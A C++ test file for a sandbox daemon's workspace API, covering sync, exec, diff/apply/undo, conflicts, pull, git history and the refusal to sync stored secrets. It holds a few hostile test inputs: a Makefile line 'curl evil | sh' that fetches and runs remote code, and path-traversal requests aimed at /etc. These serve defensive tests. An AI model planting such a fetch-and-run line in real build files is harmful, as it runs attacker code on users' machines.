// The workspace routes end to end in-process, the honest path: create, sync, exec, diff / apply /
// undo, conflicts, pull, full git history, bad requests, files holding a stored secret's value.
// Only the VM is fake, so the guest's /workspace is a directory on this host (guest_path). Hostile
// guests' tools: workspace_hostile_test.cc; tools that hang: guest_deadline_test.cc. Real VMs:
// tests/e2e/workspace_e2e_test.cc.
#include <cctype>
#include <filesystem>
#include <string>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "src/daemon/testing/workspace_api_fixture.h"
#include "src/workspace/sha256.h"

namespace abox::daemon {
namespace {

namespace fs = std::filesystem;
using http::httptest::Response;
using testing::GitOut;
using ::testing::HasSubstr;
using ::testing::Not;
using testing::ReadAll;
using testing::Sh;
using testing::WorkspaceApiTest;
using testing::WriteAll;

TEST_F(WorkspaceApiTest, CreateSyncsTheFileSetWithoutSecretsHooksOrCredentials) {
  std::string id = Create();
  EXPECT_EQ(ReadAll(guest_ / "src/main.c"), ReadAll(host_ / "src/main.c"));
  EXPECT_TRUE(fs::exists(guest_ / "Makefile"));
  EXPECT_FALSE(fs::exists(guest_ / ".env")) << "a secret-looking file went in";
  EXPECT_FALSE(fs::exists(guest_ / "build/out.o")) << "an ignored file went in";
  EXPECT_TRUE(fs::exists(guest_ / ".git/HEAD"));
  EXPECT_FALSE(fs::exists(guest_ / ".git/hooks"));
  std::string config = ReadAll(guest_ / ".git/config");
  EXPECT_THAT(config, Not(HasSubstr("tok123")));
  EXPECT_THAT(config, Not(HasSubstr("helper = store")));
  // git works on the copy: one commit, a clean tree...
  std::string git = absl::StrCat("cd ", guest_.string(), " && git -c safe.directory='*' ");
  EXPECT_EQ(GitOut(git + "status --porcelain"), "");
  EXPECT_EQ(GitOut(git + "rev-list --all --count"), "1\n");
  // ...and neither its history, nor its objects, nor any file holds the secret.
  EXPECT_THAT(GitOut(git + "log -p --all"), Not(HasSubstr("hunter2")));
  EXPECT_THAT(GitOut(git + "cat-file --batch-all-objects --batch"), Not(HasSubstr("hunter2")));
  EXPECT_EQ(GitOut(absl::StrCat("grep -rl hunter2 ", guest_.string(), " || true")), "");
  nlohmann::json sandbox = Call("GET", absl::StrCat("/v1/sandboxes/", id)).Json();
  EXPECT_EQ(sandbox["workspace"]["path"], host_.string());
  EXPECT_EQ(sandbox["workspace"]["syncs"], 1);
  // Nothing changed in the guest yet.
  EXPECT_TRUE(Diff(id)["files"].empty());
}

TEST_F(WorkspaceApiTest, SyncSendsChangesDeletionsAndRenamesOnly) {
  std::string id = Create();
  WriteAll(host_ / "README.md", "changed on the host\n");
  fs::rename(host_ / "src/main.c", host_ / "src/app.c");
  Response r = Post(id, "sync", nlohmann::json::object());
  ASSERT_EQ(r.status, 200) << r.body;
  nlohmann::json report = r.Json();
  EXPECT_TRUE(report["changed"].get<bool>());
  EXPECT_EQ(report["files"], 2) << report.dump();  // README.md, src/app.c
  EXPECT_EQ(report["deleted"], 1);
  EXPECT_EQ(ReadAll(guest_ / "README.md"), "changed on the host\n");
  EXPECT_TRUE(fs::exists(guest_ / "src/app.c"));
  EXPECT_FALSE(fs::exists(guest_ / "src/main.c"));
  // Unchanged: the guest is not contacted again.
  r = Post(id, "sync", nlohmann::json::object());
  EXPECT_FALSE(r.Json()["changed"].get<bool>()) << r.body;
  // The sync never touches the host: a file the agent created stays in the guest only.
  WriteAll(guest_ / "agent-notes.txt", "mine");
  WriteAll(host_ / "README.md", "again\n");
  ASSERT_EQ(Post(id, "sync", nlohmann::json::object()).status, 200);
  EXPECT_TRUE(fs::exists(guest_ / "agent-notes.txt"));
  EXPECT_FALSE(fs::exists(host_ / "agent-notes.txt"));
}

TEST_F(WorkspaceApiTest, ExecSyncsFirstAndStartsInTheWorkspace) {
  std::string id = Create();
  WriteAll(host_ / "new.txt", "fresh\n");
  Response r = Post(id, "execs", {{"argv", {"sh", "-c", "pwd; cat new.txt"}}, {"user", "root"}});
  ASSERT_EQ(r.status, 201) << r.body;
  std::string exec = r.Json().value("id", "");
  Response wait = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/wait"));
  ASSERT_EQ(wait.status, 200) << wait.body;
  Response out = Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/output"));
  EXPECT_THAT(out.body, HasSubstr("fresh"));
  EXPECT_THAT(out.body, HasSubstr(guest_.string()));
}

TEST_F(WorkspaceApiTest, DiffApplyAndUndoRoundTrip) {
  std::string id = Create();
  std::string readme_before = ReadAll(host_ / "README.md");
  // The agent edits, adds, deletes, and makes a file executable.
  WriteAll(guest_ / "README.md", "line 1\nline 2 (agent)\nline 3\nline 4\nline 5\n");
  WriteAll(guest_ / "docs/new.md", "new doc\n");
  fs::remove(guest_ / "src/main.c");
  nlohmann::json diff = Diff(id);
  ASSERT_EQ(diff["files"].size(), 3u) << diff.dump(1);
  std::string all;
  for (const auto& f : diff["files"]) {
    all += f.value("patch", "");
  }
  EXPECT_THAT(all, HasSubstr("+line 2 (agent)"));
  EXPECT_THAT(all, HasSubstr("new file mode 100644"));
  EXPECT_THAT(all, HasSubstr("deleted file mode"));
  nlohmann::json stat = Diff(id, "?stat=true");
  EXPECT_FALSE(stat["files"][0].contains("patch"));

  // Meanwhile the person edits another line of README.md on the host: a clean merge.
  WriteAll(host_ / "README.md", "line 1\nline 2\nline 3\nline 4\nline 5 (host)\n");
  std::string readme_host = ReadAll(host_ / "README.md");
  Response dry = Post(id, "apply", {{"dry_run", true}});
  ASSERT_EQ(dry.status, 200) << dry.body;
  EXPECT_TRUE(dry.Json()["artifact"].is_null());
  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host) << "a dry run wrote";

  Response applied = Post(id, "apply", nlohmann::json::object());
  ASSERT_EQ(applied.status, 200) << applied.body;
  std::string artifact = applied.Json().value("artifact", "");
  ASSERT_FALSE(artifact.empty()) << applied.body;
  EXPECT_EQ(ReadAll(host_ / "README.md"),
            "line 1\nline 2 (agent)\nline 3\nline 4\nline 5 (host)\n");
  EXPECT_EQ(ReadAll(host_ / "docs/new.md"), "new doc\n");
  EXPECT_FALSE(fs::exists(host_ / "src/main.c"));
  // The base followed: nothing left to diff.
  EXPECT_TRUE(Diff(id)["files"].empty()) << Diff(id).dump(1);

  Response list = Call("GET", "/v1/artifacts");
  EXPECT_THAT(list.body, HasSubstr(artifact));
  Response undo = Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}");
  ASSERT_EQ(undo.status, 200) << undo.body;
  EXPECT_EQ(ReadAll(host_ / "README.md"), readme_host);
  EXPECT_FALSE(fs::exists(host_ / "docs/new.md"));
  EXPECT_FALSE(fs::exists(host_ / "docs"));
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) {\n  return 0;\n}\n");
  // Undone twice: refused.
  EXPECT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 409);
  // After the undo the agent's work shows again (the base went back too).
  EXPECT_EQ(Diff(id)["files"].size(), 3u);
  (void)readme_before;
}

TEST_F(WorkspaceApiTest, ConflictsAreRefusedOrWrittenWithMarkers) {
  std::string id = Create();
  WriteAll(guest_ / "README.md", "line 1 guest\nline 2\nline 3\nline 4\nline 5\n");
  WriteAll(host_ / "README.md", "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
  Response refused = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("README.md"));
  EXPECT_EQ(ReadAll(host_ / "README.md"), "line 1 host\nline 2\nline 3\nline 4\nline 5\n");
  Response markers = Post(id, "apply", {{"conflicts", "markers"}});
  ASSERT_EQ(markers.status, 200) << markers.body;
  std::string merged = ReadAll(host_ / "README.md");
  EXPECT_THAT(merged, HasSubstr("<<<<<<<"));
  EXPECT_THAT(merged, HasSubstr("line 1 host"));
  EXPECT_THAT(merged, HasSubstr("line 1 guest"));
}

TEST_F(WorkspaceApiTest, ExecFilesNeedTheirFlag) {
  std::string id = Create();
  WriteAll(guest_ / "Makefile", "all:\n\tcurl evil | sh\n");
  WriteAll(guest_ / ".github/workflows/ci.yml", "on: push\n");
  nlohmann::json diff = Diff(id);
  for (const auto& f : diff["files"]) {
    EXPECT_TRUE(f.contains("exec_sensitive")) << f.dump();
  }
  Response refused = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("allow-exec-files"));
  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcc src/main.c\n");
  Response allowed = Post(id, "apply", {{"allow_exec_files", true}});
  ASSERT_EQ(allowed.status, 200) << allowed.body;
  EXPECT_EQ(ReadAll(host_ / "Makefile"), "all:\n\tcurl evil | sh\n");
}

TEST_F(WorkspaceApiTest, PullTakesChosenFilesAndGuardsHostChanges) {
  std::string id = Create();
  WriteAll(guest_ / "src/main.c", "int main(void) { return 1; }\n");
  WriteAll(guest_ / "out/report.txt", "report\n");
  WriteAll(host_ / "src/main.c", "host edit\n");
  Response refused = Post(id, "pull", {{"paths", {"src/main.c"}}});
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
  Response forced = Post(id, "pull", {{"paths", {"src/main.c"}}, {"force", true}});
  ASSERT_EQ(forced.status, 200) << forced.body;
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "int main(void) { return 1; }\n");
  fs::path other = fs::path(tmp_.path()) / "elsewhere";
  fs::create_directories(other);
  Response into = Post(id, "pull", {{"paths", {"out/report.txt"}}, {"to", other.string()}});
  ASSERT_EQ(into.status, 200) << into.body;
  EXPECT_EQ(ReadAll(other / "out/report.txt"), "report\n");
  EXPECT_FALSE(fs::exists(host_ / "out/report.txt"));
  // Undo of the forced pull brings the host edit back.
  std::string artifact = forced.Json().value("artifact", "");
  ASSERT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 200);
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), "host edit\n");
}

// Issue 19: the agent replaced the directory src/ with a file. Untouched on the host, that is
// the sandbox's change (not "both sides changed"); with a file the person added there since,
// apply and pull refuse naming it, and pull --force takes the sandbox's version as its message
// says. Each undo brings back every host file.
TEST_F(WorkspaceApiTest, ADirectoryReplacedWithAFileAppliesAndPullForceTakesIt) {
  std::string id = Create();
  const std::string main_c = ReadAll(host_ / "src/main.c");
  fs::remove_all(guest_ / "src");
  WriteAll(guest_ / "src", "now a file\n");
  Response applied = Post(id, "apply", nlohmann::json::object());
  ASSERT_EQ(applied.status, 200) << applied.body;
  EXPECT_EQ(ReadAll(host_ / "src"), "now a file\n");
  std::string artifact = applied.Json().value("artifact", "");
  ASSERT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 200);
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), main_c);

  WriteAll(host_ / "src/mine.c", "the person's\n");
  Response refused = Post(id, "apply", nlohmann::json::object());
  EXPECT_EQ(refused.status, 409) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("src/mine.c"));
  EXPECT_THAT(refused.body, Not(HasSubstr("both sides changed")));
  EXPECT_THAT(refused.body, HasSubstr("pull --force"));
  Response pull = Post(id, "pull", {{"paths", {"src"}}});
  EXPECT_EQ(pull.status, 409) << pull.body;
  EXPECT_THAT(pull.body, HasSubstr("use --force"));
  EXPECT_EQ(ReadAll(host_ / "src/mine.c"), "the person's\n");
  Response forced = Post(id, "pull", {{"paths", {"src"}}, {"force", true}});
  ASSERT_EQ(forced.status, 200) << forced.body;
  EXPECT_EQ(ReadAll(host_ / "src"), "now a file\n");
  EXPECT_TRUE(Diff(id)["files"].empty()) << Diff(id).dump(1);
  artifact = forced.Json().value("artifact", "");
  ASSERT_EQ(Call("POST", absl::StrCat("/v1/artifacts/", artifact, "/undo"), "{}").status, 200);
  EXPECT_EQ(ReadAll(host_ / "src/main.c"), main_c);
  EXPECT_EQ(ReadAll(host_ / "src/mine.c"), "the person's\n");
}

// Issue 19: a workspace that is a subdirectory of a repository gets git in the guest, HEAD's
// tree under that directory: the agent's `git diff` shows its changes there.
TEST_F(WorkspaceApiTest, ASubdirectoryOfARepositoryGetsGit) {
  nlohmann::json body = {
      {"workspace", {{"path", (host_ / "src").string()}, {"guest_path", guest_.string()}}}};
  Response created = Call("POST", "/v1/sandboxes", body.dump());
  ASSERT_EQ(created.status, 201) << created.body;
  std::string git = absl::StrCat("cd ", guest_.string(), " && git -c safe.directory='*' ");
  EXPECT_EQ(GitOut(git + "ls-files"), "main.c\n");
  EXPECT_EQ(GitOut(git + "status --porcelain"), "");
  WriteAll(guest_ / "main.c", "int main(void) { return 2; }\n");
  EXPECT_EQ(GitOut(git + "status --porcelain"), " M main.c\n");
  EXPECT_THAT(GitOut(git + "diff"), HasSubstr("+int main(void) { return 2; }"));
  EXPECT_EQ(GitOut(absl::StrCat("grep -rl hunter2 ", guest_.string(), " || true")), "");
}

TEST_F(WorkspaceApiTest, FullGitHistoryIsRefusedWhileItHoldsASecret) {
  nlohmann::json body = {
      {"workspace",
       {{"path", host_.string()}, {"guest_path", guest_.string()}, {"git_history", true}}}};
  Response refused = Call("POST", "/v1/sandboxes", body.dump());
  EXPECT_EQ(refused.status / 100, 4) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("could not be synced in"));
  EXPECT_THAT(refused.body, HasSubstr(".env (.env) in commit"));
  EXPECT_FALSE(fs::exists(guest_ / ".git")) << "a refused history went in";
  EXPECT_EQ(GitOut(absl::StrCat("grep -rl hunter2 ", guest_.string(), " || true")), "");

  // A history without secrets goes in whole: both commits, the sanitized remote.
  fs::path clean = fs::path(tmp_.path()) / "clean";
  WriteAll(clean / "a.txt", "one\n");
  std::string git = absl::StrCat("cd ", clean.string(),
                                 " && GIT_CONFIG_GLOBAL=/dev/null git -c user.name=t -c "
                                 "user.email=t@e ");
  ASSERT_EQ(
      Sh(git + "init -q . && git remote add origin https://user:tok123@example.com/r.git && " +
         git + "add -A && " + git + "commit -qm one && echo two > a.txt && " + git +
         "commit -qam two"),
      0);
  fs::path guest2 = fs::path(tmp_.path()) / "guest2";
  fs::create_directories(guest2);
  body = {{"workspace",
           {{"path", clean.string()}, {"guest_path", guest2.string()}, {"git_history", true}}}};
  Response created = Call("POST", "/v1/sandboxes", body.dump());
  ASSERT_EQ(created.status, 201) << created.body;
  std::string in_guest = absl::StrCat("cd ", guest2.string(), " && git -c safe.directory='*' ");
  EXPECT_EQ(GitOut(in_guest + "log --format=%s"), "two\none\n");
  EXPECT_EQ(GitOut(in_guest + "remote get-url origin"), "https://example.com/r.git\n");
  EXPECT_EQ(GitOut(in_guest + "status --porcelain"), "");
  nlohmann::json sandbox =
      Call("GET", absl::StrCat("/v1/sandboxes/", created.Json().value("id", ""))).Json();
  EXPECT_EQ(sandbox["workspace"]["git_history"], true);
}

TEST_F(WorkspaceApiTest, BadRequestsSayWhatIsWrong) {
  Response missing =
      Call("POST", "/v1/sandboxes", R"({"workspace":{"path":"/nonexistent/abox-test"}})");
  EXPECT_EQ(missing.status, 400) << missing.body;
  EXPECT_THAT(missing.body, HasSubstr("/nonexistent/abox-test"));
  Response system = Call(
      "POST", "/v1/sandboxes",
      nlohmann::json{{"workspace", {{"path", host_.string()}, {"guest_path", "/etc"}}}}.dump());
  EXPECT_EQ(system.status, 400) << system.body;
  std::string plain = [&] {
    Response r = Call("POST", "/v1/sandboxes", "{}");
    return r.Json().value("id", "");
  }();
  Response no_ws = Post(plain, "sync", nlohmann::json::object());
  EXPECT_EQ(no_ws.status, 404) << no_ws.body;
  EXPECT_THAT(no_ws.body, HasSubstr("abox create -w"));
  std::string id = Create();
  EXPECT_EQ(Post(id, "apply", {{"conflicts", "maybe"}}).status, 400);
  EXPECT_EQ(Post(id, "pull", nlohmann::json::object()).status, 400);
  EXPECT_EQ(Post(id, "apply", {{"paths", {"../etc/passwd"}}}).status, 400);
  EXPECT_EQ(Post(id, "apply", {{"paths", {"no/such/file"}}}).status, 404);
  EXPECT_EQ(Call("POST", "/v1/artifacts/../../etc/undo", "{}").status / 100, 4);
}

TEST_F(WorkspaceApiTest, ContentNothingRefersToAnyMoreIsCollected) {
  std::string id = Create();
  // The workspace's object store: objects/<2 hex>/<64 hex>.
  const fs::path objects = fs::path(home_.path()) / "workspaces" / id / "objects" / "objects";
  auto stored = [&](const std::string& content) {
    std::string sha = workspace::Sha256Hex(content);
    return fs::exists(objects / sha.substr(0, 2) / sha);
  };
  const std::string readme = ReadAll(host_ / "README.md");
  ASSERT_TRUE(stored(readme));

  // Each version of a file the agent writes is fetched by a diff, and goes once the agent
  // replaced or removed it.
  const std::string v1(1 << 20, 'a');
  const std::string v2(1 << 20, 'b');
  WriteAll(guest_ / "big.bin", v1);
  ASSERT_EQ(Diff(id)["files"].size(), 1u);
  EXPECT_TRUE(stored(v1));
  WriteAll(guest_ / "big.bin", v2);
  ASSERT_EQ(Diff(id)["files"].size(), 1u);
  EXPECT_FALSE(stored(v1));
  EXPECT_TRUE(stored(v2));
  fs::remove(guest_ / "big.bin");
  EXPECT_TRUE(Diff(id)["files"].empty());
  EXPECT_FALSE(stored(v2));
  EXPECT_TRUE(stored(readme)) << "the base's content was collected";

  // A host change synced in: the old base content goes with the sync.
  WriteAll(host_ / "README.md", "rewritten on the host\n");
  ASSERT_EQ(Post(id, "sync", nlohmann::json::object()).status, 200);
  EXPECT_TRUE(stored("rewritten on the host\n"));
  EXPECT_FALSE(stored(readme));
}

// With a stored secret (the fixture's daemon keeps values in a file in its home): no file that
// holds its real value is synced in (issue 15).
class WorkspaceSecretTest : public WorkspaceApiTest {
 protected:
  static constexpr char kValue[] = "ghp_syncvalue0123456789abcdef";

  void StoreSecret() {
    nlohmann::json spec = {
        {"name", "GH_TOKEN"}, {"hosts", {"api.github.com"}}, {"source", {{"kind", "stored"}}}};
    Response set =
        Call("POST", "/v1/secrets", nlohmann::json{{"spec", spec}, {"value", kValue}}.dump());
    ASSERT_EQ(set.status, 201) << set.body;
  }
};

TEST_F(WorkspaceSecretTest, CreateRefusesAWorkspaceWithAFileHoldingAStoredSecretsValue) {
  StoreSecret();
  const std::string config = absl::StrCat("const token = '", kValue, "';\n");
  WriteAll(host_ / "src/config.js", config);
  Response refused = Call(
      "POST", "/v1/sandboxes",
      nlohmann::json{{"workspace", {{"path", host_.string()}, {"guest_path", guest_.string()}}}}
          .dump());
  EXPECT_EQ(refused.status, 403) << refused.body;
  EXPECT_THAT(refused.body, HasSubstr("could not be synced in"));
  EXPECT_THAT(refused.body,
              HasSubstr("src/config.js holds the real value of secret GH_TOKEN (raw)"));
  EXPECT_THAT(refused.body, HasSubstr("--exclude"));
  EXPECT_THAT(refused.body, Not(HasSubstr(kValue)));
  EXPECT_TRUE(fs::is_empty(guest_)) << "part of the workspace went in";
  EXPECT_EQ(ReadAll(host_ / "src/config.js"), config);
}

TEST_F(WorkspaceSecretTest, SyncAndExecRefuseAFileHoldingAStoredSecretsValueInAnyForm) {
  std::string id = Create();
  StoreSecret();
  const std::string readme = ReadAll(guest_ / "README.md");
  WriteAll(host_ / "README.md", "changed on the host\n");
  // HTTP Basic credentials: the value base64-encoded inside a longer text.
  std::string b64;
  absl::Base64Escape(absl::StrCat("x-access-token:", kValue), &b64);
  const std::string auth = absl::StrCat("Authorization: Basic ", b64, "\n");
  WriteAll(host_ / "deploy/auth.txt", auth);

  Response refused = Post(id, "sync", nlohmann::json::object());
  EXPECT_EQ(refused.status, 403) << refused.body;
  EXPECT_THAT(refused.body,
              HasSubstr("deploy/auth.txt holds the real value of secret GH_TOKEN (base64)"));
  EXPECT_THAT(refused.body, HasSubstr(absl::StrCat("not synced into sandbox ", id)));
  EXPECT_THAT(refused.body, Not(HasSubstr(kValue)));
  EXPECT_THAT(refused.body, Not(HasSubstr(b64)));
  // Nothing of the sync went in, the other change neither; the host file is as it was.
  EXPECT_FALSE(fs::exists(guest_ / "deploy"));
  EXPECT_EQ(ReadAll(guest_ / "README.md"), readme);
  EXPECT_EQ(ReadAll(host_ / "deploy/auth.txt"), auth);

  // An exec syncs first: refused too, and the command does not run.
  Response exec = Post(id, "execs", {{"argv", {"sh", "-c", "touch ran"}}, {"user", "root"}});
  EXPECT_EQ(exec.status, 403) << exec.body;
  EXPECT_THAT(exec.body, HasSubstr("deploy/auth.txt holds the real value of secret GH_TOKEN"));
  EXPECT_THAT(exec.body, HasSubstr("the command did not run"));
  EXPECT_FALSE(fs::exists(guest_ / "ran"));

  // The value taken out of the file: everything goes in.
  WriteAll(host_ / "deploy/auth.txt", "Authorization: Basic $AUTH\n");
  Response synced = Post(id, "sync", nlohmann::json::object());
  ASSERT_EQ(synced.status, 200) << synced.body;
  EXPECT_EQ(ReadAll(guest_ / "deploy/auth.txt"), "Authorization: Basic $AUTH\n");
  EXPECT_EQ(ReadAll(guest_ / "README.md"), "changed on the host\n");
}

TEST_F(WorkspaceSecretTest, ASandboxsPlaceholderInAFileSyncs) {
  StoreSecret();
  Response created = Call(
      "POST", "/v1/sandboxes",
      nlohmann::json{{"secrets", {{"GH_TOKEN", ""}}},
                     {"workspace", {{"path", host_.string()}, {"guest_path", guest_.string()}}}}
          .dump());
  ASSERT_EQ(created.status, 201) << created.body;
  std::string id = created.Json().value("id", "");
  Response r = Post(id, "execs", {{"shell", "printf %s \"$GH_TOKEN\""}, {"user", "root"}});
  ASSERT_EQ(r.status, 201) << r.body;
  std::string exec = r.Json().value("id", "");
  ASSERT_EQ(Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/wait")).status, 200);
  std::string out =
      Call("GET", absl::StrCat("/v1/sandboxes/", id, "/execs/", exec, "/output")).body;
  size_t at = out.find("ABOX_SECRET_GH_TOKEN_");
  ASSERT_NE(at, std::string::npos) << out;
  size_t end = at;
  while (end < out.size() &&
         (std::isalnum(static_cast<unsigned char>(out[end])) != 0 || out[end] == '_')) {
    ++end;
  }
  const std::string config = absl::StrCat("const token = '", out.substr(at, end - at), "';\n");

  WriteAll(host_ / "src/config.js", config);
  Response synced = Post(id, "sync", nlohmann::json::object());
  ASSERT_EQ(synced.status, 200) << synced.body;
  EXPECT_EQ(ReadAll(guest_ / "src/config.js"), config);
}

TEST_F(WorkspaceSecretTest, WithoutAStoredSecretNothingIsRefused) {
  WriteAll(host_ / "notes.txt", kValue);
  std::string id = Create();
  EXPECT_EQ(ReadAll(guest_ / "notes.txt"), kValue);
  // Stored since: a sync checks what it sends; the unchanged notes.txt is not sent again.
  StoreSecret();
  WriteAll(host_ / "README.md", "changed on the host\n");
  Response synced = Post(id, "sync", nlohmann::json::object());
  ASSERT_EQ(synced.status, 200) << synced.body;
  EXPECT_EQ(synced.Json()["files"], 1) << synced.body;
}

}  // namespace
}  // namespace abox::daemon
